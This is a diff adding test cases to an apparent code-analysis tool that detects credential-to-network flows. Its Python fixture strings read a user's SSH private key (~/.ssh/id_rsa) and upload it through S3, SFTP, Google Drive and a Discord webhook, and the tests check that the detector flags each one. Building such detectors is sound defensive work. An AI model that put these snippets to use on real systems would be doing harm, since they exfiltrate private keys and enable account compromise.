@@ -47,3 +47,18 @@ test.each([
   const { facts } = await read(`import os, requests\n${text}\n`);
   expect(facts?.flows({ from: ['credentials', 'observation'], to: 'network' })).toEqual([]);
 });
+
+test.each([
+  ['boto3', 'import boto3\nboto3.client("s3").upload_file(place, "bucket", "key")'],
+  ['paramiko', 'import paramiko\nparamiko.SFTPClient.from_transport(t).put(place, "/key")'],
+  ['pydrive', 'from pydrive.drive import GoogleDrive\nf = GoogleDrive(a).CreateFile({})\nf.SetContentFile(place)\nf.Upload()'],
+  ['discord', 'import discord\ndiscord.SyncWebhook.from_url(u).send(file=discord.File(place))'],
+])('%s sends the file whose name it is given', async (_, text) => {
+  const { facts } = await read(`import os\nplace = os.path.expanduser("~/.ssh/id_rsa")\n${text}\n`);
+  expect(facts?.flows({ from: 'credentials', to: 'network' })).toHaveLength(1);
+});
+
+test('the key that a connection is opened with is not sent', async () => {
+  const { facts } = await read('import os, paramiko\nparamiko.SSHClient().connect(h, key_filename=os.path.expanduser("~/.ssh/id_rsa"))\n');
+  expect(facts?.flows({ from: 'credentials', to: 'network' })).toEqual([]);
+});
